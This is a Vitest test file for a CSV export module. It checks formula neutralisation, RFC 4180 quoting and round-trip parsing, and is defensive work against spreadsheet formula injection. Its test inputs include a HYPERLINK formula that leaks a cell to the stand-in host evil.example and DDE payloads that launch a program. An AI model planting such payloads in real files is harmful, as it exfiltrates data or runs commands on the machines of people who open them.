import { describe, expect, it } from 'vitest'
import { csvCell, csvText, parseCsv } from './csv'

describe('a CSV cell', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`,
    ],
    ['+49 30 1234567', `"'+49 30 1234567"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['@SUM(1+1)*cmd|"/C calc"!A0', `"'@SUM(1+1)*cmd|""/C calc""!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['-', `"'-"`],
  ])('neutralises text a spreadsheet would read as a formula: %j', (text, cell) => {
    expect(csvCell(text)).toBe(cell)
  })

  it('keeps numbers numbers, negative ones too', () => {
    expect(csvCell(-12.5)).toBe('-12.5')
    expect(csvCell('-12.50')).toBe('-12.50')
    expect(csvCell('0')).toBe('0')
    expect(csvCell(3)).toBe('3')
  })

  it('quotes text with commas, quotes and line breaks (RFC 4180), and leaves other text as it is', () => {
    expect(csvCell('Anchor "Heavy", 10 mm')).toBe('"Anchor ""Heavy"", 10 mm"')
    expect(csvCell('two\nlines')).toBe('"two\nlines"')
    expect(csvCell('Site Operations Berlin')).toBe('Site Operations Berlin')
    expect(csvCell('a=b')).toBe('a=b')
    expect(csvCell('')).toBe('')
  })
})

describe('CSV text', () => {
  it('writes rows with CRLF line ends', () => {
    expect(
      csvText([
        ['Cost center', 'Total'],
        ['=1+1', -3],
      ]),
    ).toBe(`Cost center,Total\r\n"'=1+1",-3\r\n`)
  })

  it('reads what it writes, and what ICM writes, back into the same cells', () => {
    const rows = [
      ['Order number', 'Product', 'Cost center'],
      ['10000001', 'Anchor "Heavy", 10 mm', '\'=HYPERLINK("x")'],
      ['10000002', 'two\r\nlines', ''],
    ]
    expect(parseCsv(csvText(rows))).toEqual(rows)
    expect(parseCsv('a,b\nc,"d\r\ne"\r\n')).toEqual([
      ['a', 'b'],
      ['c', 'd\r\ne'],
    ])
    expect(parseCsv('a,')).toEqual([['a', '']])
    expect(parseCsv('')).toEqual([])
  })

  it('neutralises a formula however ICM quoted it, and only once', () => {
    const once = csvText(parseCsv('Cost center\r\n"=HYPERLINK(""http://evil.example"")"\r\n=2+5\r\n'))
    expect(once).toBe(`Cost center\r\n"'=HYPERLINK(""http://evil.example"")"\r\n"'=2+5"\r\n`)
    expect(csvText(parseCsv(once))).toBe(once)
  })
})
